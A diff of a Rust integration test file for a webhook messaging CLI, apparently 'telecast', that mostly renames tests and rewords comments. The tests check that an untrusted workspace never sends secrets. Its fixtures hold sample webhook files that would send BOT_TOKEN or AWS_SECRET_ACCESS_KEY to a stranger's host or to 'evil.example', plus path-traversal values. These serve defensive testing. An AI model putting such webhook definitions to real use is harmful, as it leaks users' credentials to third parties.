@@ -1,5 +1,5 @@
-//! A workspace from a stranger: nothing is sent and no secret is read until the user says so, and what cannot be read
-//! off a webhook is never sent to.
+//! An untrusted workspace: nothing is sent and no secret is read until the user trusts the webhook. A webhook whose
+//! destination or secrets cannot be determined is never used.
 
 use std::io::{BufRead, BufReader, Read, Write};
 use std::net::{TcpListener, TcpStream};
@@ -10,7 +10,7 @@ use telecast::campaign::Webhook;
 
 use crate::support::{Home, Terminal};
 
-/// Somebody's server on loopback, which answers as a Bot API and hands out every request.
+/// A stranger's server on loopback, which answers like a Bot API and records every request.
 struct Server {
     address: String,
     requests: Receiver<String>,
@@ -23,7 +23,7 @@ impl Server {
         let (sender, requests) = channel();
         std::thread::spawn(move || {
             for stream in listener.incoming().map_while(Result::ok) {
-                let Some(request) = answered(stream) else { continue };
+                let Some(request) = answer_request(stream) else { continue };
                 if sender.send(request).is_err() {
                     break;
                 }
@@ -32,13 +32,13 @@ impl Server {
         Self { address, requests }
     }
 
-    /// Returns all that was asked for so far.
+    /// Returns the requests since the last call.
     fn requests(&self) -> Vec<String> {
         self.requests.try_iter().collect()
     }
 }
 
-fn answered(mut stream: TcpStream) -> Option<String> {
+fn answer_request(mut stream: TcpStream) -> Option<String> {
     let mut reader = BufReader::new(stream.try_clone().ok()?);
     let mut head = String::new();
     while !head.ends_with("\r\n\r\n") {
@@ -57,7 +57,7 @@ fn answered(mut stream: TcpStream) -> Option<String> {
     Some(head + &String::from_utf8_lossy(&body))
 }
 
-/// A home with a clone of a stranger's workspace `shop`, whose webhook `bot` is `webhook`.
+/// A home with a clone `shop` of a stranger's workspace. `webhook` is the file of its webhook `bot`.
 fn clone(webhook: &str) -> Home {
     let home = Home::new();
     home.write("shop/telecast.toml", "name = \"Shop\"\n");
@@ -76,19 +76,18 @@ fn test_args<'a>() -> [&'a str; 6] {
 }
 
 #[test]
-fn nothing_reaches_a_strangers_host_before_it_is_trusted() {
+fn nothing_is_sent_to_a_host_before_it_is_trusted() {
     let server = Server::start();
     let home = clone(&bot_at(&format!("http://{}/bot${{BOT_TOKEN}}/sendMessage", server.address)));
-    let run = |words: &[&str]| {
-        let mut command = home.command(["--workspace", "shop"].iter().chain(words));
+    let run = |args: &[&str]| {
+        let mut command = home.command(["--workspace", "shop"].iter().chain(args));
         let output = command.env("BOT_TOKEN", "42:SECRET").output().unwrap();
         (output.status.code(), String::from_utf8_lossy(&output.stderr).into_owned())
     };
-    for words in
-        [&["test", "hi", "--to", "77"][..], &["test", "hi", "--as-is"], &["webhooks", "check", "bot"]]
+    for args in [&["test", "hi", "--to", "77"][..], &["test", "hi", "--as-is"], &["webhooks", "check", "bot"]]
     {
-        let (code, err) = run(words);
-        assert_eq!(code, Some(3), "{words:?}: {err}");
+        let (code, err) = run(args);
+        assert_eq!(code, Some(3), "{args:?}: {err}");
         let expected = format!(
             "the webhook `bot` is not trusted, so nothing was sent: it would send BOT_TOKEN to {}",
             server.address
@@ -96,7 +95,7 @@ fn nothing_reaches_a_strangers_host_before_it_is_trusted() {
         assert!(err.contains(&expected) && err.contains("telecast trust"), "{err}");
     }
     assert_eq!(server.requests(), [""; 0]);
-    // Its own word that it is a sandbox, or one that is written down in the workspace, counts for nothing.
+    // Neither the server's claim to be a sandbox nor a file in the workspace makes it trusted.
     home.write("shop/.telecast/sandbox.json", format!("{{\"addr\":\"{}\",\"pid\":1}}", server.address));
     assert_eq!(run(&["test", "hi", "--to", "77"]).0, Some(3));
     assert_eq!(server.requests(), [""; 0]);
@@ -110,7 +109,7 @@ fn nothing_reaches_a_strangers_host_before_it_is_trusted() {
 }
 
 #[test]
-fn the_console_sends_nothing_for_an_untrusted_webhook_until_it_is_asked_and_told() {
+fn the_console_asks_before_it_uses_an_untrusted_webhook() {
     let server = Server::start();
     let home = clone(&bot_at(&format!("http://{}/bot${{BOT_TOKEN}}/sendMessage", server.address)));
     let mut command = home.command(["--workspace", "shop"]);
@@ -125,30 +124,30 @@ fn the_console_sends_nothing_for_an_untrusted_webhook_until_it_is_asked_and_told
     terminal.wait_for("Another chat");
     terminal.send("\x1b");
     terminal.wait_for("Enter to review");
-    // Enter asks, before anything else; no is the answer that it gives there.
+    // Enter first asks the question. There, Enter selects no.
     terminal.send("\r");
     terminal.wait_for("Trust this webhook?");
     terminal.wait_for("telecast would send BOT_TOKEN to");
     terminal.send("\r");
-    terminal.wait_until("the dialog of the test", |screen| {
+    terminal.wait_until("the test dialog", |screen| {
         let text = screen.contents();
         text.contains("Enter to review") && !text.contains("Trust this webhook?")
     });
     assert_eq!(server.requests(), [""; 0]);
-    // Somebody who was still typing has not answered by it: a letter only chooses.
+    // A letter only selects an answer, so that a user who is still typing does not confirm by accident.
     terminal.send("g");
     terminal.wait_for("Trust this webhook?");
     terminal.send("t");
     terminal.read_for(std::time::Duration::from_millis(50));
     assert_eq!(server.requests(), [""; 0]);
     terminal.send("\r");
-    // It calls itself a sandbox, and is none of ours.
+    // The server calls itself a sandbox, but it is not one of ours.
     terminal.wait_for("LIVE @evil_bot");
     assert!(server.requests().iter().all(|request| request.starts_with("POST /bot42:SECRET/getMe")));
 }
 
 #[test]
-fn what_is_trusted_is_what_was_asked_about_and_no_file_that_came_meanwhile() {
+fn a_webhook_that_changes_during_the_question_is_not_trusted() {
     let (shown, swapped) = (Server::start(), Server::start());
     let url = |server: &Server| format!("http://{}/bot${{BOT_TOKEN}}/sendMessage", server.address);
     let home = clone(&bot_at(&url(&shown)));
@@ -162,7 +161,7 @@ fn what_is_trusted_is_what_was_asked_about_and_no_file_that_came_meanwhile() {
     terminal.send("\r");
     terminal.wait_for("Trust this webhook?");
     home.write("shop/webhooks/bot.toml", format!("name = \"Swapped\"\n{}", bot_at(&url(&swapped))));
-    terminal.wait_until("the new file, looked at", |screen| {
+    terminal.wait_until("the new file", |screen| {
         let text = screen.contents();
         text.contains("Swapped") && text.contains("NOT TRUSTED: BOT_TOKEN")
     });
@@ -171,7 +170,7 @@ fn what_is_trusted_is_what_was_asked_about_and_no_file_that_came_meanwhile() {
     terminal.send("\r");
     terminal.wait_for("the webhook changed meanwhile, so it was not trusted");
     assert_eq!(home.run(["--workspace", "shop", "trust"]).code, Some(3));
-    // The question is asked again, about what stands there now.
+    // The question is asked again, for the file as it is now.
     terminal.send("\r");
     terminal.wait_until("the question about the new file", |screen| {
         let text = screen.contents();
@@ -181,7 +180,7 @@ fn what_is_trusted_is_what_was_asked_about_and_no_file_that_came_meanwhile() {
 }
 
 #[test]
-fn an_environment_variable_trusts_for_one_run_and_is_never_kept() {
+fn the_trust_variable_applies_to_one_run_only() {
     let server = Server::start();
     let home = clone(&bot_at(&format!("http://{}/bot${{BOT_TOKEN}}/sendMessage", server.address)));
     let run = |trust: &str| {
@@ -200,14 +199,14 @@ fn an_environment_variable_trusts_for_one_run_and_is_never_kept() {
 }
 
 #[test]
-fn trust_lists_trusts_and_forgets() {
+fn trust_lists_grants_and_revokes() {
     let home = clone(&bot_at("https://api.telegram.org/bot${BOT_TOKEN}/sendMessage"));
     home.write("shop/webhooks/box.toml", bot_at("${SANDBOX}/bot${T}/sendMessage"));
     home.write(
         "shop/webhooks/crm.toml",
         "url = \"https://crm.example:8443/x?k=${B}\"\nauth = {kind = \"bearer\", token = \"${A}\"}\n",
     );
-    let run = |words: &[&str]| home.run(["--workspace", "shop", "trust"].iter().chain(words));
+    let run = |args: &[&str]| home.run(["--workspace", "shop", "trust"].iter().chain(args));
     let listed = run(&[]);
     assert_eq!(listed.code, Some(3), "{listed:?}");
     assert_eq!(
@@ -217,7 +216,7 @@ fn trust_lists_trusts_and_forgets() {
     );
     assert_eq!(run(&["box"]).code, Some(0));
     assert_eq!(run(&["bot", "--yes"]).ok(), "bot\tapi.telegram.org\tBOT_TOKEN\ttrusted\n");
-    let states = |answer: crate::support::Answer| {
+    let states = |answer: crate::support::CommandOutput| {
         let rows = answer.json();
         rows.as_array()
             .unwrap()
@@ -226,7 +225,7 @@ fn trust_lists_trusts_and_forgets() {
             .collect::<Vec<_>>()
     };
     assert_eq!(states(run(&["--json"])), ["trusted", "sandbox", "untrusted"]);
-    // Any change of what it sends where asks again; its name and its timeout are no such change.
+    // Any change to what is sent, or where, revokes the trust. The name and the timeout do not matter.
     let bot = home.read("shop/webhooks/bot.toml");
     home.write("shop/webhooks/bot.toml", format!("name = \"B\"\ntimeout = \"3s\"\n{bot}"));
     assert_eq!(states(run(&["--json"]))[0], "trusted");
@@ -254,7 +253,7 @@ fn trust_lists_trusts_and_forgets() {
 }
 
 #[test]
-fn on_a_terminal_trust_asks_and_says_what_changed() {
+fn on_a_terminal_trust_asks_and_shows_what_changed() {
     let home = clone(&bot_at("https://api.telegram.org/bot${BOT_TOKEN}/sendMessage"));
     home.run(["--workspace", "shop", "trust", "--yes"]).ok();
     home.write("shop/webhooks/bot.toml", bot_at("https://evil.example/bot${BOT_TOKEN}/sendMessage"));
@@ -274,7 +273,7 @@ fn on_a_terminal_trust_asks_and_says_what_changed() {
 }
 
 #[test]
-fn trust_is_in_one_folder_and_not_in_its_copy() {
+fn trust_does_not_extend_to_a_copied_folder() {
     let home = clone(&bot_at("https://api.telegram.org/bot${BOT_TOKEN}/sendMessage"));
     home.run(["--workspace", "shop", "trust", "--yes"]).ok();
     let copied =
@@ -282,11 +281,15 @@ fn trust_is_in_one_folder_and_not_in_its_copy() {
     assert!(copied.unwrap().success());
     assert_eq!(home.run(["--workspace", "copy", "trust"]).code, Some(3));
     std::os::unix::fs::symlink(home.path().join("shop"), home.path().join("link")).unwrap();
-    assert_eq!(home.run(["--workspace", "link", "trust"]).code, Some(0), "the real path counts");
+    assert_eq!(
+        home.run(["--workspace", "link", "trust"]).code,
+        Some(0),
+        "the trust belongs to the real path"
+    );
 }
 
 #[test]
-fn what_is_typed_in_here_is_trusted() {
+fn a_webhook_created_by_a_command_is_trusted() {
     let home = Home::new();
     home.run(["init", "shop"]).ok();
     home.run(["--workspace", "shop", "webhooks", "new", "bot"]).ok();
@@ -296,7 +299,7 @@ fn what_is_typed_in_here_is_trusted() {
     );
 }
 
-/// What a webhook must not be able to do, as its file has it; the secret is for somebody else each time.
+/// Webhook files that must be refused. Most would send a secret to the wrong host.
 const INVALID: &[&str] = &[
     "url = \"http://HOST/bot1:${AWS_SECRET_ACCESS_KEY}/sendMessage\"",
     "url = \"http://HOST/bot${BOT_TOKEN}/sendMessage?k=${AWS_SECRET_ACCESS_KEY}\"",
@@ -306,24 +309,24 @@ const INVALID: &[&str] = &[
     "url = \"http://HOST/bot${BOT_TOKEN}/deleteWebhook\"",
     "url = \"http://HOST/bot${BOT_TOKEN}/sendMessage\"\n[headers]\nHost = \"internal\"",
     "url = \"http://HOST/x\"\n[params]\na = \"{% include 'x' %}\"",
-    // What cannot be read would be left out, or be another thing than was meant.
+    // A key with a wrong value would be ignored or misread.
     "url = \"http://HOST/bot${BOT_TOKEN}/sendMessage\"\nmethod = \"PSOT\"",
     "url = \"http://HOST/x?k=${BOT_TOKEN}\"\n[auth]\ntoken = \"${BOT_TOKEN}\"",
     "url = \"http://HOST/x\"\nheaders = \"X: 1\"",
 ];
 
 #[test]
-fn what_cannot_be_read_off_a_webhook_is_an_error_in_check_and_never_sent_trusted_or_not() {
+fn an_invalid_webhook_fails_check_and_is_never_sent_even_if_trusted() {
     let server = Server::start();
     for webhook in INVALID {
         let home = clone(&webhook.replace("HOST", &server.address));
         assert_eq!(home.run(["--workspace", "shop", "trust", "--yes"]).code, Some(1), "{webhook}");
-        // As an earlier version, or another program, might have written it down.
+        // As an earlier version, or another program, might have stored the trust.
         trust_by_hand(&home, &webhook.replace("HOST", &server.address));
         let check = home.run(["--workspace", "shop", "check"]);
         assert!(check.code == Some(1) && check.out.contains("webhooks/bot.toml:"), "{webhook}: {check:?}");
-        for words in [&test_args()[..], &["--workspace", "shop", "webhooks", "check", "bot"]] {
-            let mut command = home.command(words);
+        for args in [&test_args()[..], &["--workspace", "shop", "webhooks", "check", "bot"]] {
+            let mut command = home.command(args);
             command.env("BOT_TOKEN", "42:S").env("AWS_SECRET_ACCESS_KEY", "aws");
             let output =
                 command.env("TELECAST_TRUST", format!("BOT_TOKEN@{}", server.address)).output().unwrap();
@@ -352,13 +355,13 @@ fn trust_by_hand(home: &Home, webhook: &str) {
 }
 
 #[test]
-fn a_value_that_leads_elsewhere_is_stopped_at_the_finished_address() {
+fn a_value_that_changes_the_url_path_is_refused() {
     let server = Server::start();
     let home = clone(&format!("url = \"http://{}/users/{{{{ Profile.id }}}}/x\"\n", server.address));
     home.run(["--workspace", "shop", "trust", "--yes"]).ok();
     let run = |profile: &str| {
-        let words = ["--workspace", "shop", "test", "hi", "--as-is", "--profile-json", "-"];
-        home.run_with_input(words, profile)
+        let args = ["--workspace", "shop", "test", "hi", "--as-is", "--profile-json", "-"];
+        home.run_with_input(args, profile)
     };
     for id in ["..", "%2e%2e/admin", "bot1:a/sendMessage?", "a/../../b"] {
         let answer = run(&serde_json::json!({ "id": id }).to_string());
@@ -366,7 +369,7 @@ fn a_value_that_leads_elsewhere_is_stopped_at_the_finished_address() {
     }
     assert_eq!(server.requests(), [""; 0]);
     assert_eq!(run("{\"id\": 7}").code, Some(0));
-    // A token that is none would become a part of the path.
+    // A malformed token would become a part of the path.
     home.write("shop/webhooks/bot.toml", bot_at(&format!("http://{}/bot${{T}}/sendMessage", server.address)));
     home.run(["--workspace", "shop", "trust", "--yes"]).ok();
     server.requests();
@@ -378,18 +381,18 @@ fn a_value_that_leads_elsewhere_is_stopped_at_the_finished_address() {
 }
 
 #[test]
-fn a_clone_with_a_known_id_does_not_get_the_token_and_a_person_can_move_it() {
+fn a_clone_with_a_known_id_gets_secrets_only_by_an_explicit_move() {
     let home = clone(&bot_at("https://api.telegram.org/bot${BOT_TOKEN}/sendMessage"));
     home.write("shop/telecast.toml", "name = \"Shop\"\nid = \"known\"\n");
     home.write("config/telecast/secrets.toml", "[workspace.known]\nBOT_TOKEN = \"42:OLD\"\nOTHER = \"x\"\n");
-    let run = |words: &[&str]| home.run(["--workspace", "shop"].iter().chain(words));
+    let run = |args: &[&str]| home.run(["--workspace", "shop"].iter().chain(args));
     assert_eq!(run(&["secrets", "list"]).ok(), "BOT_TOKEN\tmissing\n");
     run(&["trust", "--yes"]).ok();
     let refused = run(&["test", "hi", "--to", "77"]);
     assert_ne!(refused.code, Some(0));
-    let told = format!("{}{}", refused.out, refused.err);
-    assert!(told.contains("telecast trust --move-secrets BOT_TOKEN"), "{told}");
-    assert!(!told.contains("42:OLD"), "{told}");
+    let printed = format!("{}{}", refused.out, refused.err);
+    assert!(printed.contains("telecast trust --move-secrets BOT_TOKEN"), "{printed}");
+    assert!(!printed.contains("42:OLD"), "{printed}");
     assert_eq!(run(&["trust", "--move-secrets", "NONE"]).code, Some(1));
     run(&["trust", "--move-secrets", "BOT_TOKEN"]).ok();
     assert_eq!(run(&["secrets", "list"]).ok(), "BOT_TOKEN\tthis workspace\n");
@@ -400,7 +403,7 @@ fn a_clone_with_a_known_id_does_not_get_the_token_and_a_person_can_move_it() {
 }
 
 #[test]
-fn the_console_offers_a_secret_of_an_earlier_version_once_and_by_name() {
+fn the_console_offers_old_secrets_once_and_by_name() {
     let home = clone(&bot_at("https://api.telegram.org/bot${BOT_TOKEN}/sendMessage"));
     home.write("shop/telecast.toml", "name = \"Shop\"\nid = \"known\"\n");
     home.write("config/telecast/secrets.toml", "[workspace.known]\nBOT_TOKEN = \"42:OLD\"\n");
@@ -408,7 +411,7 @@ fn the_console_offers_a_secret_of_an_earlier_version_once_and_by_name() {
     let mut terminal = start();
     terminal.wait_for("Secrets of an earlier path");
     terminal.wait_for("has: BOT_TOKEN (");
-    // Enter takes the harmless answer.
+    // Enter selects the safe answer.
     terminal.send("\r");
     terminal.wait_for("move them later with: telecast trust --move-secrets BOT_TOKEN");
     terminal.send("\x11");
@@ -422,7 +425,7 @@ fn the_console_offers_a_secret_of_an_earlier_version_once_and_by_name() {
 }
 
 #[test]
-fn the_palette_adopts_a_private_folder_that_was_not_made_here() {
+fn the_palette_adopts_a_foreign_private_folder() {
     let home = Home::new();
     home.run(["init", "first"]).ok();
     home.write("first/.telecast/test-chats.toml", "[chats]\nme = \"77\"\n");
@@ -436,7 +439,7 @@ fn the_palette_adopts_a_private_folder_that_was_not_made_here() {
     terminal.send("\r");
     terminal.wait_for("Adopt .telecast?");
     terminal.send("a");
-    // A line break in one read with other keys would be a paste.
+    // A line break that is read together with other keys would count as a paste.
     terminal.read_for(std::time::Duration::from_millis(50));
     terminal.send("\r");
     terminal.wait_for("adopted .telecast");
@@ -447,7 +450,7 @@ fn the_palette_adopts_a_private_folder_that_was_not_made_here() {
 }
 
 #[test]
-fn a_foreign_private_folder_does_not_choose_the_chat_of_a_test_until_it_is_adopted() {
+fn test_chats_of_a_foreign_folder_are_ignored_until_it_is_adopted() {
     let home = clone(&bot_at("${SANDBOX}/bot${T}/sendMessage"));
     home.write("shop/.telecast/test-chats.toml", "last = \"me\"\n[chats]\nme = \"999\"\n");
     let run = || {
@@ -462,21 +465,21 @@ fn a_foreign_private_folder_does_not_choose_the_chat_of_a_test_until_it_is_adopt
 }
 
 #[test]
-fn the_secrets_of_a_moved_folder_are_offered_and_those_of_one_that_is_there_are_not() {
+fn secrets_of_another_folder_can_be_moved_only_if_it_is_gone() {
     let home = clone(&bot_at("https://api.telegram.org/bot${BOT_TOKEN}/sendMessage"));
     home.run_with_input(["--workspace", "shop", "secrets", "set", "BOT_TOKEN"], "42:OLD").ok();
     let copied =
         std::process::Command::new("cp").args(["-r", "shop", "copy"]).current_dir(home.path()).status();
     assert!(copied.unwrap().success());
-    let moves = || home.run(["--workspace", "copy", "trust", "--move-secrets", "BOT_TOKEN"]);
-    assert_eq!(moves().code, Some(1), "the other one is still there");
+    let move_secret = || home.run(["--workspace", "copy", "trust", "--move-secrets", "BOT_TOKEN"]);
+    assert_eq!(move_secret().code, Some(1), "the first folder still exists");
     std::fs::rename(home.path().join("shop"), home.path().join("gone")).unwrap();
-    moves().ok();
+    move_secret().ok();
     assert_eq!(home.run(["--workspace", "copy", "secrets", "list"]).ok(), "BOT_TOKEN\tthis workspace\n");
 }
 
 #[test]
-fn a_sandbox_of_this_user_needs_no_trust_while_it_runs() {
+fn a_running_sandbox_of_this_user_needs_no_trust() {
     let home = clone("");
     let mut sandbox = start_sandbox(&home, &["sandbox", "--chat", "77"]);
     let address = first_line(&mut sandbox);
@@ -486,12 +489,12 @@ fn a_sandbox_of_this_user_needs_no_trust_while_it_runs() {
     assert_eq!(run().status.code(), Some(0));
     sandbox.kill().unwrap();
     sandbox.wait().unwrap();
-    // Killed, so it took nothing back: whoever listens there now is somebody else.
+    // A killed sandbox does not delete its record. Another process may listen on its port now, so it is not trusted.
     assert_eq!(run().status.code(), Some(3));
 }
 
 #[test]
-fn fifty_tests_at_once_each_have_a_sandbox_of_their_own() {
+fn fifty_concurrent_tests_each_get_their_own_sandbox() {
     let home = clone(&bot_at("${SANDBOX}/bot${T}/sendMessage"));
     let start = || {
         let mut command = home.command(test_args());
@@ -505,8 +508,8 @@ fn fifty_tests_at_once_each_have_a_sandbox_of_their_own() {
     }
 }
 
-fn start_sandbox(home: &Home, words: &[&str]) -> Child {
-    home.command(words).stdin(Stdio::null()).stdout(Stdio::piped()).stderr(Stdio::null()).spawn().unwrap()
+fn start_sandbox(home: &Home, args: &[&str]) -> Child {
+    home.command(args).stdin(Stdio::null()).stdout(Stdio::piped()).stderr(Stdio::null()).spawn().unwrap()
 }
 
 fn first_line(child: &mut Child) -> String {
